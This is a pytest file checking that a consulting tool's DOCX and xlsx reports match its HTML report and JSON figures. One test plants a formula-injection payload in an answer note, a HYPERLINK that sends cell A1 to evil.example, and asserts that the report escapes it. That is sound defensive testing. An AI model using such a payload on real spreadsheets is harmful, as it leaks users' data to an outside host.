"""DOCX and xlsx reports as a consultant and an analyst open them: the PDF's sections in Word,
the very figures of results.json and the plan JSON in a workbook, the same bytes twice."""

from __future__ import annotations

import html as html_lib
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest

from mcpscale.render.report.write import report_format

from .conftest import ACME, TINY, Cli, once

EPOCH = "1764028800"  # 2025-11-25
ACME_ARGS = (
    ACME / "answers",
    "--profile",
    ACME / "profile.yaml",
    "--evidence",
    ACME / "evidence" / "scan.yaml",
)
TINY_ARGS = (
    TINY / "answers",
    "--questionnaire",
    TINY / "questionnaire.yaml",
    "--profile",
    TINY / "profile.yaml",
)
SHEETS = [
    "Scores",
    "Answers",
    "Disagreements",
    "Evidence conflicts",
    "Initiatives",
    "Budget",
    "Cash flows",
]


@pytest.fixture(scope="module")
def acme(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The bundled example with its evidence: DOCX, xlsx and HTML reports, score and plan JSON."""
    return dict(once(tmp_path_factory, "acme-docx", _acme))


def _acme(folder: Path) -> dict[str, Any]:
    cli = Cli()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SOURCE_DATE_EPOCH", EPOCH)
        for name in ("report.docx", "report.xlsx", "report.html"):
            result = cli("report", *ACME_ARGS, "--output", folder / name)
            assert result.exit_code == 0, result.output
        results = cli.json("score", *ACME_ARGS)
        plan = cli.json("plan", *ACME_ARGS)
    return {"folder": folder, "results": results, "plan": plan}


def html_headings(path: Path, tag: str) -> list[str]:
    """The text of each <tag> in the HTML report, as a reader sees it."""
    found = re.findall(rf"<{tag}[^>]*>(.*?)</{tag}>", path.read_text(), flags=re.S)
    return [" ".join(html_lib.unescape(re.sub("<[^>]+>", "", h)).split()) for h in found]


def docx_headings(document: Any, style: str) -> list[str]:
    return [p.text.strip() for p in document.paragraphs if p.style.name == style]


@pytest.mark.slow  # the example's four reports and JSON: 10-20 s
def test_docx_has_every_section_heading_of_the_pdf_in_order(acme: dict[str, Any]) -> None:
    folder = acme["folder"]
    document = docx.Document(str(folder / "report.docx"))
    sections = html_headings(folder / "report.html", "h2")
    assert "Evidence conflicts" in sections and "Return on investment" in sections
    assert docx_headings(document, "Heading 1") == sections
    assert docx_headings(document, "Heading 2") == html_headings(folder / "report.html", "h3")
    assert docx_headings(document, "Title") == ["MCP readiness assessment"]


def test_small_docx_has_the_html_headings_in_order(cli: Cli, tmp_path: Path) -> None:
    for name in ("r.docx", "r.html"):
        assert cli("report", *TINY_ARGS, "--output", tmp_path / name).exit_code == 0
    document = docx.Document(str(tmp_path / "r.docx"))
    sections = html_headings(tmp_path / "r.html", "h2")
    assert "Respondents as evidence" in sections  # the tiny pack has no plan sections
    assert docx_headings(document, "Heading 1") == sections
    assert docx_headings(document, "Heading 2") == html_headings(tmp_path / "r.html", "h3")


@pytest.mark.slow  # the example's four reports and JSON: 10-20 s
def test_docx_tables_have_header_rows_and_charts_are_pictures(acme: dict[str, Any]) -> None:
    document = docx.Document(str(acme["folder"] / "report.docx"))
    headed = [t for t in document.tables if t.rows[0]._tr.xpath("./w:trPr/w:tblHeader")]
    headers = [[c.text for c in t.rows[0].cells] for t in headed]
    assert ["Dimension", "Score", "Level", "Target", "Gap", "Coverage", "Unknown", "N/A"] in headers
    assert [
        "Year", "Period", "Costs", "Benefits", "Net",
        "Cumulative net, undiscounted", "Cumulative net, discounted",
    ] in headers  # fmt: skip
    maturity = headed[headers.index(["Dimension", "Score", "Level", "Target", "Gap", "Coverage",
                                     "Unknown", "N/A"])]  # fmt: skip
    rows = {row.cells[0].text: row.cells[1].text for row in maturity.rows[1:]}
    for dimension in acme["results"]["dimensions"]:
        assert rows[dimension["name"]] == f"{dimension['score']:.2f}"
    # radar, a spread per dimension, Gantt, budget, cash flows, cumulative, tornado, heat map
    pictures = document.inline_shapes
    assert len(pictures) == 1 + len(acme["results"]["dimensions"]) + 6
    with zipfile.ZipFile(acme["folder"] / "report.docx") as package:
        media = [n for n in package.namelist() if n.startswith("word/media/")]
        assert media and all(package.read(n).startswith(b"\x89PNG") for n in media)


def test_docx_keeps_brand_colour_logo_and_classification(cli: Cli, tmp_path: Path) -> None:
    from PIL import Image

    Image.new("RGB", (40, 10), "#E69F00").save(tmp_path / "logo.png")
    brand = tmp_path / "brand.yaml"
    brand.write_text(
        "kind: brand\nname: Example Consulting\ncolour: '#7a1f5c'\nlogo: logo.png\n"
        "classification: Client confidential\n"
    )
    output = tmp_path / "r.docx"
    result = cli("report", *TINY_ARGS, "--output", output, "--brand", brand)
    assert result.exit_code == 0, result.output
    document = docx.Document(str(output))
    for style in ("Title", "Heading 1", "Heading 2"):
        assert str(document.styles[style].font.color.rgb) == "7A1F5C"
    section = document.sections[0]
    assert "CLIENT CONFIDENTIAL" in section.header.paragraphs[0].text  # every page but the cover
    footer = section.footer.paragraphs[0].text
    assert "Example Consulting · Tiny readiness check assessment" in footer  # brand · title
    assert section.different_first_page_header_footer
    assert document.core_properties.category == "Client confidential"
    # the logo is the first picture, on the cover
    with zipfile.ZipFile(output) as package:
        first = sorted(n for n in package.namelist() if n.startswith("word/media/"))[0]
        assert Image.open(io.BytesIO(package.read(first))).size == (40, 10)


def test_same_inputs_give_the_same_docx_and_xlsx_bytes(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    outputs: dict[str, list[bytes]] = {"docx": [], "xlsx": []}
    for run in ("a", "b"):
        for suffix in outputs:
            path = tmp_path / run / f"report.{suffix}"
            assert cli("report", *TINY_ARGS, "--output", path).exit_code == 0
            outputs[suffix].append(path.read_bytes())
    assert outputs["docx"][0] == outputs["docx"][1]
    assert outputs["xlsx"][0] == outputs["xlsx"][1]
    document = docx.Document(io.BytesIO(outputs["docx"][0]))
    assert document.core_properties.created.date().isoformat() == "2025-11-25"
    workbook = openpyxl.load_workbook(io.BytesIO(outputs["xlsx"][0]))
    assert workbook.properties.modified.date().isoformat() == "2025-11-25"
    with zipfile.ZipFile(io.BytesIO(outputs["xlsx"][0])) as package:
        assert {entry.date_time[:3] for entry in package.infolist()} == {(2025, 11, 25)}


def same(value: Any) -> Any:
    """xlsx keeps 16 significant digits (openpyxl writes %.16g; Excel shows 15)."""
    return pytest.approx(value, rel=1e-15, abs=0)


def sheet_rows(sheet: Any) -> list[dict[str, Any]]:
    """A sheet's table (from A1 to its first empty row) as dicts by header."""
    rows = sheet.iter_rows(values_only=True)
    header = next(rows)
    table = []
    for row in rows:
        if all(value is None for value in row):
            break
        table.append(dict(zip(header, row, strict=False)))
    return table


def sheet_figures(sheet: Any) -> dict[str, Any]:
    """The labelled single figures below a sheet's table (label in A, value in B)."""
    rows = list(sheet.iter_rows(values_only=True))
    blank = next(i for i, row in enumerate(rows) if all(v is None for v in row))
    return {row[0]: row[1] for row in rows[blank + 1 :] if row[0] is not None}


@pytest.mark.slow  # the example's four reports and JSON: 10-20 s
def test_xlsx_holds_the_figures_of_results_json_and_the_plan_json(acme: dict[str, Any]) -> None:
    results, plan = acme["results"], acme["plan"]
    workbook = openpyxl.load_workbook(acme["folder"] / "report.xlsx")
    assert workbook.sheetnames == SHEETS
    scores = {row["Dimension id"]: row for row in sheet_rows(workbook["Scores"])}
    assert scores["overall"]["Score"] == same(results["overall"]["score"])
    for dimension in results["dimensions"]:
        row = scores[dimension["id"]]
        assert (row["Score"], row["Target"], row["Gap"], row["Coverage"]) == same(
            (dimension["score"], dimension["target"], dimension["gap"], dimension["coverage"])
        )
        assert isinstance(row["Score"], float)  # a number, not text
    answers = sheet_rows(workbook["Answers"])
    assert len(answers) == sum(len(q["answers"]) for q in results["questions"])
    notes = [a["note"] for q in results["questions"] for a in q["answers"] if a["note"]]
    assert [row["Note"] for row in answers if row["Note"]] == notes
    assert {row["Confidence"] for row in answers} >= {"high", "medium"}
    disagreements = sheet_rows(workbook["Disagreements"])
    assert [row["Question id"] for row in disagreements] == [
        d["question"] for d in results["disagreements"]
    ]
    first = results["disagreements"][0]
    assert all(disagreements[0][name] == level for name, level in first["levels"].items())
    conflicts = sheet_rows(workbook["Evidence conflicts"])
    assert results["evidence_conflicts"] and len(conflicts) == len(results["evidence_conflicts"])
    initiatives = sheet_rows(workbook["Initiatives"])
    assert [row["Initiative id"] for row in initiatives] == [
        i["id"] for i in plan["roadmap"]["initiatives"]
    ]
    budget = plan["budget"]
    assert sum(row[next(k for k in row if k.startswith("Amount"))] for row in sheet_rows(
        workbook["Budget"])) == pytest.approx(budget["total"])  # fmt: skip
    budget_figures = sheet_figures(workbook["Budget"])
    assert budget_figures["Total"] == same(budget["total"])
    assert budget_figures["Total cost of ownership"] == same(budget["total_cost_of_ownership"])
    cash = workbook["Cash flows"]
    assert [row["Net"] for row in sheet_rows(cash)] == same(
        [c["net"] for c in plan["roi"]["cash_flows"]]
    )
    figures = sheet_figures(cash)
    assert figures["NPV"] == same(plan["roi"]["npv"]) and figures["ROI"] == same(plan["roi"]["roi"])
    assert figures["NPV P50"] == same(plan["roi"]["simulation"]["p50"]["npv"])
    payback, flexibility = plan["roi"]["simulation"]["payback_months"], plan["roi"]["flexibility"]
    assert figures["Payback P50 (months)"] == payback["p50"]
    assert figures["Flexibility value"] == same(flexibility["value"])
    assert figures["Gate 1 pass probability"] == same(flexibility["gates"][0]["pass_probability"])
    assert figures["NPV mean"] == same(plan["roi"]["simulation"]["mean"]["npv"])


def test_text_from_outside_stays_text_in_xlsx_and_docx(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "answers"
    shutil.copytree(TINY / "answers", folder)
    ben = folder / "ben.yaml"
    note = '=HYPERLINK("http://evil.example/?"&A1,"click") \x07 <b>x</b>'
    ben.write_text(
        ben.read_text().replace(
            "tech.b: most", f"tech.b: {{choice: most, note: {json.dumps(note)}}}"
        )
    )
    args = (folder, *TINY_ARGS[1:])
    for suffix in ("xlsx", "docx"):
        result = cli("report", *args, "--output", tmp_path / f"r.{suffix}")
        assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["Answers"]
    notes = [cell.value for cell in sheet["I"] if cell.value and "HYPERLINK" in str(cell.value)]
    assert notes == ["'" + note.replace("\x07", "\\x07")]  # shown as written, never run
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    document = docx.Document(str(tmp_path / "r.docx"))
    text = "\n".join(
        p.text for t in document.tables for row in t.rows for c in row.cells for p in c.paragraphs
    )
    assert '=HYPERLINK("http://evil.example/?"&A1,"click") \\x07 <b>x</b>' in text


def test_the_suffix_chooses_docx_and_xlsx_and_standard_output_refuses_them(
    cli: Cli, tmp_path: Path
) -> None:
    assert report_format(Path("board.DOCX"), None) == "docx"
    assert report_format(Path("figures.xlsx"), None) == "xlsx"
    result = cli("report", *TINY_ARGS, "--output", "-", "--format", "docx")
    assert result.exit_code == 2 and "report.docx" in result.stderr
    result = cli("report", *TINY_ARGS, "--output", tmp_path / "report.odt")
    assert result.exit_code == 2 and ".docx or .xlsx" in result.stderr


def test_help_does_not_import_docx_or_openpyxl() -> None:
    code = (
        "import sys\n"
        "from typer.testing import CliRunner\n"
        "from mcpscale.cli import app\n"
        "for args in (['--help'], ['report', '--help']):\n"
        "    assert CliRunner().invoke(app, args).exit_code == 0\n"
        "print(sorted({m.split('.')[0] for m in sys.modules} & "
        "{'docx', 'openpyxl', 'lxml', 'tinyhtml5', 'matplotlib'}))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_lays_the_docx_out_with_every_section(
    acme: dict[str, Any], tmp_path: Path
) -> None:
    source = acme["folder"] / "report.docx"
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    from pypdf import PdfReader

    pages = [page.extract_text() for page in PdfReader(tmp_path / "report.pdf").pages]
    assert len(pages) > 10
    text = "\n".join(pages)
    for heading in html_headings(acme["folder"] / "report.html", "h2"):
        assert heading in text
    assert all("CONFIDENTIAL" in page for page in pages[1:])
